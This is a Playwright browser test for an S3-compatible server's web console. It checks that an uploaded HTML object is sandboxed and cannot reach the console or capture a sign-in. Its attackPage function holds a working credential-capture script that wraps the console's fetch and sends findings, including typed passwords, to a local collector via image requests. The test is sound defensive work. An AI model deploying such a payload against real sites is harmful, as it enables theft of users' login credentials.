// isolation.mjs: an uploaded HTML object cannot reach the web console.
// playwright-core drives Debian's chromium (as run.mjs does) against a
// fresh `gatehouse serve`.
//
// 1. Console and S3 on one listener (the default). A text/html object
//    whose script opens /console/ in a window and in an iframe, reads
//    their documents and wraps their fetch to capture the sign-in, is
//    loaded in the browser while the victim signs in to the console. S3
//    answers carry `Content-Security-Policy: sandbox`: the page has an
//    opaque origin and runs no script, so the capture server hears
//    nothing; and code evaluated in that page anyway (as if a script had
//    run) gets SecurityError or null for the console's window, document,
//    fetch and storage.
// 2. `--console-listen`: the console on its own port; root signs in there
//    (the console's IAM/STS calls go to that origin) and the main port
//    answers 404 under /console.
//
// Environment: as run.mjs (GATEHOUSE_BIN, GH_CONSOLE_DIR, GH_NODE_MODULES,
// GH_BROWSER_OUT, CHROMIUM).
import { spawn, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, existsSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "../..");
const bin = resolve(process.env.GATEHOUSE_BIN || join(root, "build-test/gatehouse"));
const consoleDir = resolve(process.env.GH_CONSOLE_DIR || join(dirname(bin), "console"));
const nodeModules = resolve(process.env.GH_NODE_MODULES || join(dirname(bin), "console-npm/node_modules"));
const out = resolve(process.env.GH_BROWSER_OUT || join(dirname(bin), "browser-isolation"));
const chromiumPath = process.env.CHROMIUM || "/usr/bin/chromium";
const requireNm = createRequire(join(nodeModules, "x.js"));
const { chromium } = requireNm("playwright-core");

const PASS_ROOT = "Root-console-pass-1";

let failures = 0;
function check(cond, what) {
  if (cond) console.log(`  ok   ${what}`);
  else {
    failures++;
    console.log(`  FAIL ${what}`);
  }
}

function freePort() {
  return new Promise((res, rej) => {
    const s = createServer();
    s.listen(0, "127.0.0.1", () => {
      const { port } = s.address();
      s.close(() => res(port));
    });
    s.on("error", rej);
  });
}

async function waitHealthy(origin) {
  for (let i = 0; i < 150; i++) {
    if (await fetch(`${origin}/healthz`).then((r) => r.ok).catch(() => false)) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`${origin}/healthz did not answer`);
}

function stopServer(p) {
  return new Promise((res) => {
    if (p.exitCode !== null) return res(p.exitCode);
    p.once("exit", (code) => res(code));
    p.kill("SIGTERM");
  });
}

// The attacker's page: the review's attack (open the console in a window,
// wrap its fetch, read what the victim types), and the same through an
// iframe. Every finding is sent to the capture server as an image load.
function attackPage(capture) {
  return `<!doctype html><html><head><meta charset="utf-8"><title>attack</title></head><body>
<p id="p">an uploaded page</p>
<script>
const report = (k, v) => { new Image().src = ${JSON.stringify(capture)} + k + "?v=" + encodeURIComponent(String(v)); };
report("ran", self.origin);
function hook(w, via) {
  try {
    const d = w.document;
    report(via + "-doc", d.title + " " + d.readyState);
    if (d.readyState !== "complete" || !w.fetch) return setTimeout(() => hook(w, via), 50);
    const orig = w.fetch;
    w.fetch = function (u, o) {
      report(via + "-captured", String(u) + " " + (o && o.body ? String(o.body) : ""));
      return orig.apply(this, arguments);
    };
    report(via + "-wrapped", "yes");
  } catch (e) {
    report(via + "-error", e.name);
  }
}
try {
  const w = window.open("/console/", "gh-console");
  report("open", w ? "window" : "null");
  if (w) hook(w, "window");
} catch (e) {
  report("open-error", e.name);
}
const f = document.createElement("iframe");
f.src = "/console/";
f.onload = () => hook(f.contentWindow, "iframe");
document.body.appendChild(f);
</script></body></html>`;
}

function aws(origin, data, args) {
  const ini = readFileSync(join(data, "credentials"), "utf8");
  const r = spawnSync("/usr/bin/aws", ["--endpoint-url", origin, "--region", "us-east-1", ...args], {
    encoding: "utf8",
    env: {
      PATH: process.env.PATH,
      HOME: data,
      AWS_ACCESS_KEY_ID: /aws_access_key_id\s*=\s*(\S+)/.exec(ini)[1],
      AWS_SECRET_ACCESS_KEY: /aws_secret_access_key\s*=\s*(\S+)/.exec(ini)[1],
      AWS_CONFIG_FILE: "/dev/null",
      AWS_SHARED_CREDENTIALS_FILE: "/dev/null",
    },
  });
  if (r.status !== 0) throw new Error(`aws ${args.join(" ")}: ${r.stderr}`);
  return r.stdout.trim();
}

async function signInRoot(page, account) {
  await page.getByLabel("Account ID (12 digits) or alias").fill(account);
  await page.getByLabel("Sign in as the root user").check();
  await page.getByLabel("Password", { exact: true }).fill(PASS_ROOT);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "IAM dashboard" }).waitFor();
}

async function main() {
  for (const [p, what] of [[bin, "GATEHOUSE_BIN"], [join(consoleDir, "index.html"), "the built console (make)"], [chromiumPath, "chromium (apt-get install chromium)"]])
    if (!existsSync(p)) throw new Error(`missing ${what}: ${p}`);
  rmSync(out, { recursive: true, force: true });
  mkdirSync(out, { recursive: true });
  const data = mkdtempSync(join(tmpdir(), "gh-isolation-data-"));
  const profile = mkdtempSync(join(tmpdir(), "gh-isolation-profile-"));
  const port = await freePort();
  const origin = `http://127.0.0.1:${port}`;

  // The attacker's collector: every request it gets is a finding.
  const captured = [];
  const collector = createHttpServer((req, res) => {
    captured.push(decodeURIComponent(req.url));
    res.writeHead(204, { "Access-Control-Allow-Origin": "*" });
    res.end();
  });
  await new Promise((r) => collector.listen(0, "127.0.0.1", r));
  const capture = `http://127.0.0.1:${collector.address().port}/`;

  const pw = spawnSync(bin, ["console-password", "--data-dir", data, "--root"], { input: `${PASS_ROOT}\n`, encoding: "utf8" });
  if (pw.status !== 0) throw new Error(`console-password failed: ${pw.stderr}`);
  const account = /account (\d{12})/.exec(pw.stderr)?.[1];
  if (!account) throw new Error(`no account id in: ${pw.stderr}`);

  let server = spawn(bin, ["serve", "--listen", `127.0.0.1:${port}`, "--data-dir", data, "--console-dir", consoleDir], { stdio: ["ignore", "inherit", "inherit"] });
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: chromiumPath,
    headless: true,
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"],
    viewport: { width: 1280, height: 900 },
  });
  const popups = [];
  context.on("page", (p) => popups.push(p));
  try {
    await waitHealthy(origin);
    console.log("upload a text/html object that goes for the console");
    const htmlPath = join(data, "attack.html");
    writeFileSync(htmlPath, attackPage(capture));
    aws(origin, data, ["s3api", "create-bucket", "--bucket", "pages"]);
    aws(origin, data, ["s3api", "put-object", "--bucket", "pages", "--key", "x.html", "--body", htmlPath, "--content-type", "text/html"]);
    const url = aws(origin, data, ["s3", "presign", "s3://pages/x.html"]);
    check(url.startsWith(`${origin}/pages/x.html?`), "a presigned link on the console's own origin");

    console.log("the victim opens the page, then signs in to the console");
    const victim = context.pages()[0] || (await context.newPage());
    victim.setDefaultTimeout(10000);
    const resp = await victim.goto(url);
    check(resp.status() === 200 && resp.headers()["content-type"] === "text/html", "the object is served as text/html");
    check(resp.headers()["content-security-policy"] === "sandbox", "with Content-Security-Policy: sandbox");
    check(resp.headers()["x-content-type-options"] === "nosniff", "and X-Content-Type-Options: nosniff");
    await victim.getByText("an uploaded page").waitFor();
    await victim.waitForTimeout(1500);
    // Wherever the console is open (a window the page opened, or a tab of
    // the victim's own), the victim signs in.
    const consoles = popups.filter((p) => p !== victim && p.url().includes("/console/"));
    const tab = consoles[0] || (await context.newPage());
    tab.setDefaultTimeout(10000);
    if (!consoles.length) await tab.goto(`${origin}/console/`);
    await signInRoot(tab, account);
    check(true, "the victim is signed in to the console");
    await victim.waitForTimeout(1000);
    check(consoles.length === 0, `the page opened no console window (${consoles.length})`);
    check(captured.length === 0, `the page's script did not run and captured nothing${captured.length ? ": " + captured.join(" | ") : ""}`);
    check(!captured.some((c) => c.includes(PASS_ROOT)), "the password did not leave the console");

    console.log("code in the page's document, as if a script had run, cannot reach the console");
    victim.on("crash", () => console.log("    (the page crashed)"));
    const probe = {};
    probe.origin = await victim.evaluate(() => self.origin);
    probe.storage = await victim.evaluate(() => {
      try {
        return String(localStorage.length);
      } catch (e) {
        return e.name;
      }
    });
    Object.assign(probe, await victim.evaluate(() => {
      const w = window.open("/console/", "gh-probe");
      if (!w) return { open: "null" };
      try {
        return { open: "window", openDoc: w.document.title };
      } catch (e) {
        return { open: "window", openDoc: e.name };
      }
    }));
    // The document runs no script, so no timer or load event fires in it:
    // each step is synchronous, and the waiting happens out here.
    await victim.evaluate(() => {
      const f = document.createElement("iframe");
      f.id = "probe";
      f.src = "/console/";
      document.body.appendChild(f);
    });
    await victim.waitForTimeout(1500);
    Object.assign(probe, await victim.evaluate(() => {
      const r = {};
      const f = document.getElementById("probe");
      r.frameDoc = f.contentDocument === null ? "null" : f.contentDocument.title;
      try {
        r.frameWinDoc = f.contentWindow.document.title;
      } catch (e) {
        r.frameWinDoc = e.name;
      }
      try {
        f.contentWindow.fetch = () => null;
        r.frameFetch = "replaced";
      } catch (e) {
        r.frameFetch = e.name;
      }
      // Reading the console's page by request: cross-origin without CORS.
      try {
        const x = new XMLHttpRequest();
        x.open("GET", "/console/", false);
        x.send();
        r.read = String(x.status) + " " + x.responseText.slice(0, 20);
      } catch (e) {
        r.read = e.name;
      }
      return r;
    }));
    console.log(`    ${JSON.stringify(probe)}`);
    check(probe.origin === "null", "the page's origin is opaque");
    check(probe.storage === "SecurityError", "the origin's storage: SecurityError");
    check(probe.open === "null" || probe.openDoc === "SecurityError", "window.open('/console/'): no window, or its document is a SecurityError");
    check(probe.frameDoc === "null", "an iframe of /console/: contentDocument is null");
    check(probe.frameWinDoc === "SecurityError", "an iframe of /console/: its window's document is a SecurityError");
    check(probe.frameFetch === "SecurityError", "an iframe of /console/: its fetch cannot be wrapped (SecurityError)");
    check(probe.read === "NetworkError", "reading /console/ by XMLHttpRequest is a cross-origin read the browser refuses (NetworkError)");
    check(captured.length === 0, "still nothing captured");
    await tab.close();

    console.log("--console-listen: the console on its own origin");
    await stopServer(server);
    const cport = await freePort();
    const corigin = `http://127.0.0.1:${cport}`;
    server = spawn(bin, ["serve", "--listen", `127.0.0.1:${port}`, "--console-listen", `127.0.0.1:${cport}`, "--data-dir", data, "--console-dir", consoleDir], { stdio: ["ignore", "inherit", "inherit"] });
    await waitHealthy(origin);
    await waitHealthy(corigin);
    const main404 = await fetch(`${origin}/console/`);
    check(main404.status === 404, `the main port answers 404 under /console (${main404.status})`);
    const page = await context.newPage();
    page.setDefaultTimeout(10000);
    const errors = [];
    page.on("pageerror", (e) => errors.push(String(e)));
    const apiCalls = [];
    page.on("request", (r) => {
      if (r.method() === "POST" && new URL(r.url()).pathname === "/") apiCalls.push(new URL(r.url()).origin);
    });
    await page.goto(`${corigin}/console/`);
    await signInRoot(page, account);
    await page.getByTestId("account-id").waitFor();
    check((await page.getByTestId("identity").textContent()).includes(`root @ ${account}`), "root signed in through the console's listener");
    await page.evaluate(() => (location.hash = "/users"));
    await page.getByRole("heading", { name: "Users" }).first().waitFor();
    check(apiCalls.length > 0 && apiCalls.every((o) => o === corigin), `the console's IAM/STS calls go to its own origin (${[...new Set(apiCalls)].join(", ")})`);
    check(errors.length === 0, `no errors in the page${errors.length ? ": " + errors.join(" | ") : ""}`);
    await page.screenshot({ path: join(out, "console-listen.png"), fullPage: true });
    // S3 still answers on the main port, and not on the console's.
    const obj = await fetch(aws(origin, data, ["s3", "presign", "s3://pages/x.html"]));
    check(obj.status === 200 && obj.headers.get("content-security-policy") === "sandbox", "S3 on the main port is unchanged");
    const objOnConsole = await fetch(`${corigin}/pages/x.html`);
    check(objOnConsole.status === 404, `the console's port serves no S3 object (${objOnConsole.status})`);
  } catch (e) {
    failures++;
    console.log(`  FAIL ${e?.stack || e}`);
    for (const [i, p] of context.pages().entries()) await p.screenshot({ path: join(out, `failure-${i}.png`), fullPage: true }).catch(() => undefined);
  } finally {
    await context.close();
    await stopServer(server);
    collector.close();
    rmSync(profile, { recursive: true, force: true });
    rmSync(data, { recursive: true, force: true });
  }
  console.log(failures === 0 ? "isolation browser tests passed" : `${failures} isolation browser check(s) failed; see ${out}`);
  process.exit(failures === 0 ? 0 : 1);
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
